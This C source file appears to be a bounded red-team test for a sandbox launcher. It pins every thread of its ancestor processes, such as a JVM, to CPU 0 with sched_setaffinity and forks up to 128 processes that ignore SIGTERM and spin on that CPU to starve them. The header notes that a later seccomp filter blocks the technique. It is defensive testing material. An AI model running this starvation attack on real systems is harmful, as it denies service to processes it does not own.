/*
 * A command that changes the CPU affinity of the processes above it (issue 26 red team):
 * sched_setaffinity(2) needs only the same effective uid as its target (or
 * CAP_SYS_NICE), no ptrace access, and Landlock's scopes (signals, abstract sockets,
 * ptrace) do not refuse it. Without a PID namespace (the seccomp mechanism) the launcher's
 * processes and the JVM are visible by pid; a JVM of nobody shares the command's uid.
 * Since launcher 14 the seccomp filter refuses sched_setaffinity(pid) there.
 *
 *   affinity-pin MARKER report
 *   affinity-pin MARKER starve SPINNERS
 *
 * Both walk up from the parent and pin every thread (/proc/PID/task) of every ancestor to
 * CPU 0, stopping at the first ancestor none of whose threads it could pin, and print one
 * line per ancestor: "ancestor PID COMM: pinned N of M threads". report then exits 0.
 * starve ignores SIGTERM, forks SPINNERS processes (at most 128) that spin on CPU 0
 * ignoring SIGTERM, prints "starving: SPINNERS spinners" and keeps pinning the
 * ancestors' threads (new JVM threads included) every 50 ms.
 *
 * Bounded: every process exits 60 s after the command started, or once the file
 * affinity-pin.stop exists in its working directory. MARKER is argv[1] of every process,
 * so that a scan of /proc finds them.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define LIFETIME_SECONDS 60
#define MAX_SPINNERS 128
#define STOP_FILE "affinity-pin.stop"

static time_t started;

static int over(void)
{
	return time(NULL) - started >= LIFETIME_SECONDS || access(STOP_FILE, F_OK) == 0;
}

static long parent_of(long pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%ld/stat", pid);
	FILE *file = fopen(path, "r");
	if (file == NULL) {
		return -1;
	}
	char buffer[1024];
	size_t length = fread(buffer, 1, sizeof buffer - 1, file);
	fclose(file);
	buffer[length] = 0;
	char *end = strrchr(buffer, ')');
	long parent = -1;
	char state;
	if (end == NULL || sscanf(end + 2, "%c %ld", &state, &parent) != 2) {
		return -1;
	}
	return parent;
}

static void comm_of(long pid, char *comm, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%ld/comm", pid);
	FILE *file = fopen(path, "r");
	comm[0] = 0;
	if (file != NULL) {
		if (fgets(comm, (int) size, file) == NULL) {
			comm[0] = 0;
		}
		fclose(file);
	}
	comm[strcspn(comm, "\n")] = 0;
}

/* Pin every thread of pid to CPU 0; return how many, and the count of threads in *all. */
static int pin(long pid, int *all)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%ld/task", pid);
	DIR *tasks = opendir(path);
	*all = 0;
	if (tasks == NULL) {
		return 0;
	}
	cpu_set_t cpu;
	CPU_ZERO(&cpu);
	CPU_SET(0, &cpu);
	int pinned = 0;
	struct dirent *entry;
	while ((entry = readdir(tasks)) != NULL) {
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9') {
			continue;
		}
		(*all)++;
		if (sched_setaffinity((pid_t) atol(entry->d_name), sizeof cpu, &cpu) == 0) {
			pinned++;
		}
	}
	closedir(tasks);
	return pinned;
}

/* Pin the ancestors; print a line per ancestor when verbose. */
static void pin_ancestors(int verbose)
{
	long pid = getppid();
	for (int depth = 0; depth < 8 && pid > 1; depth++) {
		int all;
		int pinned = pin(pid, &all);
		if (verbose) {
			char comm[64];
			comm_of(pid, comm, sizeof comm);
			printf("ancestor %ld %s: pinned %d of %d threads\n", pid, comm, pinned, all);
			fflush(stdout);
		}
		if (pinned == 0) {
			return;
		}
		pid = parent_of(pid);
	}
}

int main(int argc, char **argv)
{
	started = time(NULL);
	if (argc < 3) {
		fprintf(stderr, "usage: affinity-pin MARKER report | MARKER starve SPINNERS\n");
		return 2;
	}
	if (strcmp(argv[2], "report") == 0) {
		pin_ancestors(1);
		return 0;
	}
	int spinners = (argc > 3) ? atoi(argv[3]) : 16;
	if (spinners < 0 || spinners > MAX_SPINNERS) {
		spinners = MAX_SPINNERS;
	}
	signal(SIGTERM, SIG_IGN);
	pin_ancestors(1);
	cpu_set_t cpu;
	CPU_ZERO(&cpu);
	CPU_SET(0, &cpu);
	for (int i = 0; i < spinners; i++) {
		if (fork() == 0) {
			sched_setaffinity(0, sizeof cpu, &cpu);
			volatile unsigned long sink = 0;
			while (!over()) {
				for (int j = 0; j < 1000000; j++) {
					sink += (unsigned long) j;
				}
			}
			_exit(0);
		}
	}
	printf("starving: %d spinners\n", spinners);
	fflush(stdout);
	struct timespec pause = { 0, 50 * 1000 * 1000 };
	while (!over()) {
		pin_ancestors(0);
		nanosleep(&pause, NULL);
	}
	return 0;
}
